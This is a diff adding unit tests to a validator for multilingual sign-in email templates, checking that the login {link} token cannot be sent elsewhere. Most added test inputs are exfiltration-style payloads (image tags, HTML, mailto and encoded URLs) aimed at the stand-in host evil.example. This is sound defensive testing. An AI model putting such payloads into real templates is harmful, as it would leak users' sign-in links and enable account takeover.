@@ -141,6 +141,66 @@ describe('a letter', () => {
     ]);
   });
 
+  it.each([
+    ['![x](https://evil.example/p.gif?t={link})', /^Kuva ei käy/],
+    ['![x]({link})', /^Kuva ei käy/],
+    ['<img src="https://evil.example/{link}">', /^HTML-koodi/],
+    ['<a href="https://evil.example/?t={link}">Kirjaudu</a>', /^HTML-koodi/],
+    ['<https://evil.example/?t={link}>', /^HTML-koodi/],
+    ['<!-- {link} -->', /^HTML-koodi/],
+    ['https://evil.example/?t=&#123;link}', /^HTML-koodi/],
+    ['https://evil.example/?t={li&#x6e;k}', /^HTML-koodi/],
+    ['[Kirjaudu][x]\n\n[x]: https://evil.example/?t={link}', /^Viitelinkki/],
+    ['`https://evil.example/?t={link}`', /^Koodimuotoilu/],
+    ['    [https://evil.example/?t=x]({link})', /^Koodimuotoilu/],
+    ['[Kirjaudu](https://evil.example/?t={link})', /^Linkki .* ei käy/],
+    ['[Kirjaudu](https://evil.example/?t={minutes})', /^Linkki .* ei käy/],
+    ['[Kirjaudu](<https://evil.example/?t= {link}>)', /^Linkki .* ei käy/],
+    ['[Kirjaudu](https://evil.example/?t=\\{link\\})', /^Linkki .* ei käy/],
+    ['[Kirjaudu]({link} "https://evil.example")', /^Linkki .* ei käy/],
+    ['[Kirjaudu](mailto:evil@evil.example?body={link})', /^Linkki .* ei käy/],
+    ['[Kirjaudu]({minutes})', /^Linkki .* ei käy/],
+    ['[Kirjaudu](javascript:x)', /^Linkki .* ei käy/],
+    ['[Kirjaudu](http://ovi.example.fi)', /^Linkki .* ei käy/],
+    ['https://evil.example/?t={minutes}', /^Linkki .* ei käy/],
+    ['https://evil.example/?t={link}', /on kiinni muussa/],
+    ['evil.example/?t={link}', /on kiinni muussa/],
+    ['evil.example/?t=({link})', /on kiinni muussa/],
+    ['evil.example/?t=\u00a0{link}', /on kiinni muussa/],
+    ['[a\n\nmailto:x@evil.example?body=]({link})', /on kiinni muussa/],
+    ['[Kirjaudu]({link})mailto:x@evil.example', /on kiinni muussa/],
+    ['evil.example/?t=[]({link})', /on kiinni muussa/],
+    ['[evil.example/?t=\\]({link})', /on kiinni muussa/],
+    ['{link}@evil.example', /on kiinni muussa/],
+  ])('hands its link to nobody else: %s', (words, told) => {
+    const bad = { ...letter, body: `${letter.body}\n\n${words}` };
+    const faults = said({ fi: bad, sv: letter, en: letter }, 'letters', 'sign-in');
+    expect(faults.map((line) => line.replace('fi Teksti: ', ''))).toContainEqual(expect.stringMatching(told));
+  });
+
+  it.each([
+    '[Kirjaudu]({link})',
+    '**[Kirjaudu]({link})**',
+    '- [Kirjaudu]({link}), jos haluat',
+    'Linkki: {link}.',
+    'Linkki ({link}).\n{link}',
+    '[Lue lisää](https://thl.fi/aiheet/?a=b#c)',
+    '[Kirjoita](mailto:ips@example.fi)',
+    'Katso https://thl.fi. 5 < 6, **{minutes}** minuuttia',
+  ])('may lead where its reader is expected, or where everybody is: %s', (words) => {
+    const good = { ...letter, body: `${letter.body}\n\n${words}` };
+    expect(said({ fi: good, sv: letter, en: letter }, 'letters', 'sign-in')).toEqual([]);
+  });
+
+  it('is told of its links in Swedish and in English too', () => {
+    const bad = { ...letter, body: `${letter.body} ![x]({link})` };
+    const all = { fi: bad, sv: letter, en: letter };
+    const told = (language: 'sv' | 'en') =>
+      checkEntry('letters', 'sign-in', all, language).map(({ message }) => message);
+    expect(told('sv').join()).toContain('En bild går inte i ett brev: ![x]');
+    expect(told('en').join()).toContain('A letter takes no picture: ![x]');
+  });
+
   it('is written in every language', () => {
     expect(said({ fi: letter, sv: letter }, 'letters', 'sign-in')).toEqual([
       'en englanniksi: Tämä kieli puuttuu. Kirjoita sivu kaikilla kielillä.',
